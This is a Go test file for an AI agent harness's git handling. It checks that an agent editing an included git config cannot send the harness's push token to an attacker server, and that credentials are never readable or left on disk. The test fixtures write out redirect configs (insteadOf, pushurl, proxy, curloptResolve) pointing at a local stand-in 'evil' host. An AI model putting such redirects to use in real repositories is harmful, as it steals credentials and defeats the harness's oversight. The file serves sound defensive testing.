package gitrepo

import (
	"errors"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/aiwg/agent-loop/internal/loop"
)

// smartHTTP serves the bare repositories under root with the real
// git-http-backend on addr ("127.0.0.1:0" for any port), demanding basic
// auth x-access-token:<token>. It counts the requests it answers, calls
// onAuth for each authenticated one and onDenied for each refused one, and
// serves proxy requests (absolute URLs) from its own repositories too.
func smartHTTP(t *testing.T, addr, root, token string, onAuth, onDenied func()) (*httptest.Server, *atomic.Int64) {
	t.Helper()
	execPath := runGit(t, root, "--exec-path")
	backend := &cgi.Handler{
		Path: filepath.Join(execPath, "git-http-backend"),
		Dir:  root,
		Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_NOSYSTEM=1",
			"GIT_CONFIG_GLOBAL=/dev/null", "REMOTE_USER=x-access-token"},
	}
	var hits atomic.Int64
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Skipf("cannot listen on %s: %v", addr, err)
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		hits.Add(1)
		user, pass, ok := req.BasicAuth()
		if !ok {
			user, pass, ok = parseProxyAuth(req)
		}
		if !ok || user != "x-access-token" || pass != token {
			if onDenied != nil {
				onDenied()
			}
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "authentication required", http.StatusUnauthorized)
			return
		}
		if onAuth != nil {
			onAuth()
		}
		backend.ServeHTTP(w, req)
	}))
	srv.Listener.Close()
	srv.Listener = l
	srv.Start()
	t.Cleanup(srv.Close)
	return srv, &hits
}

func parseProxyAuth(req *http.Request) (string, string, bool) {
	h := req.Header.Get("Proxy-Authorization")
	if h == "" {
		return "", "", false
	}
	r2 := &http.Request{Header: http.Header{"Authorization": {h}}}
	return r2.BasicAuth()
}

// TestProbePushRedirect: a file the trusted .git/config includes (as
// actions/checkout's persisted credentials are included from the runner's
// temporary directory) is edited by the agent to send the harness's push,
// and its token, to another server: a URL rewrite, a push URL, a proxy,
// curl's resolve list. The harness pushes to the URL it recorded when the
// loop started, with a configuration of its own.
func TestProbePushRedirect(t *testing.T) {
	t.Parallel()
	const token = "ghs_probe_redirect_token_0123456789"
	variants := map[string]func(legit, evil string) string{
		"url.insteadOf": func(legit, evil string) string {
			return "[url \"" + evil + "/\"]\n\tinsteadOf = " + legit + "/\n"
		},
		"url.pushInsteadOf": func(legit, evil string) string {
			return "[url \"" + evil + "/\"]\n\tpushInsteadOf = " + legit + "/\n"
		},
		"remote.origin.pushurl": func(_, evil string) string {
			return "[remote \"origin\"]\n\tpushurl = " + evil + "/remote.git\n"
		},
		"http.proxy": func(_, evil string) string {
			return "[http]\n\tproxy = " + evil + "\n"
		},
		"http.curloptResolve": func(legit, evil string) string {
			// localhost:<port> -> 127.0.0.2, where the attacker listens on the same port.
			return "[http]\n\tcurloptResolve = " + strings.TrimPrefix(legit, "http://") + ":127.0.0.2\n"
		},
	}
	for _, name := range sortedKeys(variants) {
		for _, weak := range []bool{false, true} {
			t.Run(name+"/"+modeName(weak), func(t *testing.T) {
				t.Parallel()
				legitRoot, evilRoot := t.TempDir(), t.TempDir()
				for _, root := range []string{legitRoot, evilRoot} {
					runGit(t, root, "init", "-q", "--bare", filepath.Join(root, "remote.git"))
				}
				legitSrv, _ := smartHTTP(t, "127.0.0.1:0", legitRoot, token, nil, nil)
				port := legitSrv.Listener.Addr().(*net.TCPAddr).Port
				_, evilHits := smartHTTP(t, net.JoinHostPort("127.0.0.2", strconv.Itoa(port)), evilRoot, token, nil, nil)
				legit := "http://localhost:" + strconv.Itoa(port)
				evil := "http://127.0.0.2:" + strconv.Itoa(port)

				dir := newWorkRepo(t, nil)
				runGit(t, dir, "push", "-q", filepath.Join(legitRoot, "remote.git"), "main")
				runGit(t, dir, "remote", "add", "origin", legit+"/remote.git")
				inc := filepath.Join(t.TempDir(), "git-credentials.config")
				writeFiles(t, filepath.Dir(inc), map[string]string{filepath.Base(inc): "[core]\n\tautocrlf = false\n"})
				runGit(t, dir, "config", "include.path", inc)
				e := openProbe(t, dir, filepath.Join(legitRoot, "remote.git"), weakness{gitDir: weak}, Options{Token: token})

				// The agent edits the included file.
				writeFiles(t, filepath.Dir(inc), map[string]string{filepath.Base(inc): variants[name](legit, evil)})
				writeFiles(t, dir, map[string]string{"src/app.go": "package app // iteration 1\n"})
				res, err := e.r.Commit(e.ctx, loop.CommitRequest{Subject: "iteration 1"})
				if err != nil {
					t.Fatal(err)
				}
				perr := e.r.Push(e.ctx, "loop")
				_, evilErr := runGitErr(filepath.Join(evilRoot, "remote.git"), nil, "rev-parse", "--verify", "-q", "refs/heads/loop")
				if weak {
					if evilErr != nil && evilHits.Load() == 0 {
						t.Fatalf("the weakened harness's push (%v) did not reach the attacker's server: the probe proves nothing", perr)
					}
					return
				}
				if perr != nil {
					t.Fatalf("Push: %v", perr)
				}
				if evilErr == nil || evilHits.Load() != 0 {
					t.Fatalf("the attacker's server got %d requests (branch pushed: %v)", evilHits.Load(), evilErr == nil)
				}
				if got := runGit(t, filepath.Join(legitRoot, "remote.git"), "rev-parse", "refs/heads/loop"); got != res.SHA {
					t.Errorf("the recorded remote's loop = %s, want %s", got, res.SHA)
				}
				runGit(t, filepath.Join(legitRoot, "remote.git"), "fsck", "--strict", "--no-progress")
			})
		}
	}
}

// TestCredentialsRefused: a credential in the repository's configuration
// (where the agent can read it) stops the loop before the agent runs:
// CheckCredentials and Seal return a *CredentialError whose message names
// the fix. Each variant runs flipped too, without the credential, and
// must then pass.
func TestCredentialsRefused(t *testing.T) {
	t.Parallel()
	const token = "ghs_persisted_checkout_token_42"
	variants := map[string]func(t *testing.T, dir string){
		"extraheader in .git/config (persist-credentials)": func(t *testing.T, dir string) {
			runGit(t, dir, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hz")
		},
		"extraheader in a file includeIf includes": func(t *testing.T, dir string) {
			inc := filepath.Join(t.TempDir(), "git-credentials-1234.config")
			writeFiles(t, filepath.Dir(inc), map[string]string{filepath.Base(inc): "[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic eC1h\n"})
			// As actions/checkout writes it.
			runGit(t, dir, "config", "includeIf.gitdir:"+filepath.Join(dir, ".git")+".path", inc)
		},
		"the token in the remote URL": func(t *testing.T, dir string) {
			runGit(t, dir, "remote", "set-url", "origin", "https://x-access-token:"+token+"@github.com/o/r.git")
		},
		"a GitHub token as the URL's user name": func(t *testing.T, dir string) {
			runGit(t, dir, "remote", "set-url", "origin", "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r.git")
		},
		"the token in a comment of an included file": func(t *testing.T, dir string) {
			inc := filepath.Join(t.TempDir(), "notes.config")
			writeFiles(t, filepath.Dir(inc), map[string]string{filepath.Base(inc): "# token " + token + "\n[core]\n\tautocrlf = false\n"})
			runGit(t, dir, "config", "include.path", inc)
		},
	}
	for _, name := range sortedKeys(variants) {
		for _, flipped := range []bool{false, true} {
			label := "present"
			if flipped {
				label = "absent"
			}
			t.Run(name+"/"+label, func(t *testing.T) {
				t.Parallel()
				dir := newWorkRepo(t, nil)
				runGit(t, dir, "remote", "add", "origin", "https://github.com/o/r.git")
				if !flipped {
					variants[name](t, dir)
				}
				r := openRepo(t, dir, Options{Token: token})
				err, serr := r.CheckCredentials(), r.Seal(ctxT(t))
				if flipped {
					if err != nil || serr != nil {
						t.Fatalf("no credential, yet CheckCredentials = %v, Seal = %v", err, serr)
					}
					return
				}
				for what, err := range map[string]error{"CheckCredentials": err, "Seal": serr} {
					var ce *CredentialError
					if !errors.As(err, &ce) {
						t.Fatalf("%s = %v, want a *CredentialError", what, err)
					}
					if !strings.Contains(err.Error(), "persist-credentials: false") || strings.Contains(err.Error(), token) {
						t.Errorf("%s: %q does not name the fix, or shows the token", what, err)
					}
				}
			})
		}
	}
}

// TestTokenNeverOnDisk: while the server is answering the harness's
// authenticated push, no file holds the token: not in the temporary
// directory, the private git directory or .git. The flipped variant hands
// the token over the way the previous harness did (a 0600 file in TMPDIR
// read by a credential helper) and must be caught.
func TestTokenNeverOnDisk(t *testing.T) {
	for _, weak := range []bool{false, true} {
		t.Run(modeName(weak), func(t *testing.T) {
			tmp := t.TempDir()
			t.Setenv("TMPDIR", tmp)
			const token = "ghs_never_on_disk_0123456789abcdef"
			priv := filepath.Join(t.TempDir(), "private")
			dir := newWorkRepo(t, nil)
			root := t.TempDir()
			bare := filepath.Join(root, "remote.git")
			runGit(t, root, "init", "-q", "--bare", bare)
			runGit(t, dir, "push", "-q", bare, "main")
			var found []string
			scan := func() {
				for _, top := range []string{tmp, priv, filepath.Join(dir, ".git")} {
					filepath.Walk(top, func(p string, fi os.FileInfo, err error) error {
						if err == nil && fi.Mode().IsRegular() {
							if b, err := os.ReadFile(p); err == nil && strings.Contains(string(b), token) {
								found = append(found, p)
							}
						}
						return nil
					})
				}
			}
			var authed atomic.Int64
			srv, _ := smartHTTP(t, "127.0.0.1:0", root, token, func() { authed.Add(1); scan() }, nil)
			runGit(t, dir, "remote", "add", "origin", srv.URL+"/remote.git")
			e := openProbe(t, dir, bare, weakness{credFile: weak}, Options{Token: token, PrivateDir: priv})
			writeFiles(t, dir, map[string]string{"src/app.go": "package app // pushed\n"})
			if _, err := e.r.Commit(e.ctx, loop.CommitRequest{Subject: "iteration 1"}); err != nil {
				t.Fatal(err)
			}
			if err := e.r.Push(e.ctx, "loop"); err != nil {
				t.Fatal(err)
			}
			if authed.Load() == 0 {
				t.Fatal("no authenticated request reached the server: the test proves nothing")
			}
			if weak {
				if len(found) == 0 {
					t.Fatal("the token file of the weakened harness was not found: the probe proves nothing")
				}
				return
			}
			if len(found) > 0 {
				t.Errorf("files hold the token during the push: %v", found)
			}
		})
	}
}
